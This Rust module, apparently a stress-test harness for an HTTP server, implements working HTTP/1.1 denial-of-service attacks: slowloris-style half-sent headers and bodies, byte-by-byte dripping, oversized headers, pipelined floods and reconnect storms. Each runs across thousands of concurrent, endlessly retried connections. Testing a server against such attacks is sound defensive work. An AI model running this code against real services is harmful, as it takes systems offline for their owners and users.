//! Attacks over HTTP/1.1.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::sleep;

/// Runs so many of them side by side.
pub async fn crowd<F>(count: usize, mut one: impl FnMut() -> F)
where
    F: Future<Output = ()> + Send + 'static,
{
    let mut tasks = JoinSet::new();
    for index in 0..count {
        tasks.spawn(one());
        // Connections are not made all in one moment.
        if index % 100 == 99 {
            sleep(Duration::from_millis(1)).await;
        }
    }
    while tasks.join_next().await.is_some() {}
}

/// Does it again and again: whoever is cut comes back.
pub async fn retry<F>(one: impl Fn() -> F)
where
    F: Future<Output = std::io::Result<()>>,
{
    loop {
        if one().await.is_err() {
            sleep(Duration::from_millis(10)).await;
        }
    }
}

pub fn get(path: &str, times: usize) -> String {
    format!("GET {path} HTTP/1.1\r\nHost: x\r\n\r\n").repeat(times)
}

pub fn half_head(bytes: usize) -> String {
    format!("GET / HTTP/1.1\r\nHost: x\r\na: {}", "b".repeat(bytes))
}

pub fn large_head() -> String {
    let fields: String = (0..14).map(|n| format!("f{n}: {}\r\n", "v".repeat(1000))).collect();
    format!("GET /sleep/4000 HTTP/1.1\r\nHost: x\r\n{fields}\r\n")
}

pub fn half_body(bytes: usize) -> String {
    let head = format!("POST /echo HTTP/1.1\r\nHost: x\r\nContent-Length: {bytes}\r\n\r\n");
    head + &"b".repeat(bytes - 1)
}

pub fn small_chunks(count: usize) -> String {
    let head = "POST /echo HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n";
    head.to_owned() + &"1\r\nb\r\n".repeat(count)
}

/// Sends the beginning of something, and then neither sends nor reads.
pub async fn begin(to: SocketAddr, connections: usize, text: fn() -> String) {
    crowd(connections, move || {
        retry(move || async move {
            let mut stream = TcpStream::connect(to).await?;
            stream.write_all(text().as_bytes()).await?;
            // Readable when the server has closed, or answered; what it says is left where it is.
            loop {
                stream.readable().await?;
                if is_closed(&stream).await? {
                    return Ok(());
                }
            }
        })
    })
    .await;
}

/// Whether the server has closed. Where it has only answered, some time passes.
async fn is_closed(stream: &TcpStream) -> std::io::Result<bool> {
    sleep(Duration::from_millis(100)).await;
    // Nothing is sent by this, but a connection that was reset says so.
    if let Some(error) = stream.take_error()? {
        return Err(error);
    }
    let ready = stream.ready(tokio::io::Interest::READABLE).await?;
    Ok(ready.is_read_closed())
}

/// A byte of a head at a time, each just before the server loses its patience.
pub async fn drip(to: SocketAddr, connections: usize) {
    crowd(connections, move || {
        retry(move || async move {
            let mut stream = TcpStream::connect(to).await?;
            for byte in half_head(10_000).bytes() {
                stream.write_all(&[byte]).await?;
                sleep(Duration::from_millis(300)).await;
            }
            Ok(())
        })
    })
    .await;
}

/// Sends the same requests again and again without waiting, and reads what comes.
pub async fn flood(to: SocketAddr, connections: usize, text: String) {
    crowd(connections, move || {
        let text = text.clone();
        retry(move || {
            let text = text.clone();
            async move {
                let (mut from, mut stream) = TcpStream::connect(to).await?.into_split();
                let read = async {
                    let mut buffer = vec![0; 64 << 10];
                    while from.read(&mut buffer).await? > 0 {}
                    Ok(())
                };
                let write = async {
                    loop {
                        stream.write_all(text.as_bytes()).await?;
                    }
                };
                tokio::select! {
                    result = read => result,
                    result = write => result,
                }
            }
        })
    })
    .await;
}

/// Says something on a new connection, again and again.
pub async fn reconnect(to: SocketAddr, connections: usize, text: &'static str) {
    crowd(connections, move || {
        retry(move || async move {
            let mut stream = TcpStream::connect(to).await?;
            stream.write_all(text.as_bytes()).await?;
            let mut buffer = [0; 1024];
            while stream.read(&mut buffer).await? > 0 {}
            Ok(())
        })
    })
    .await;
}
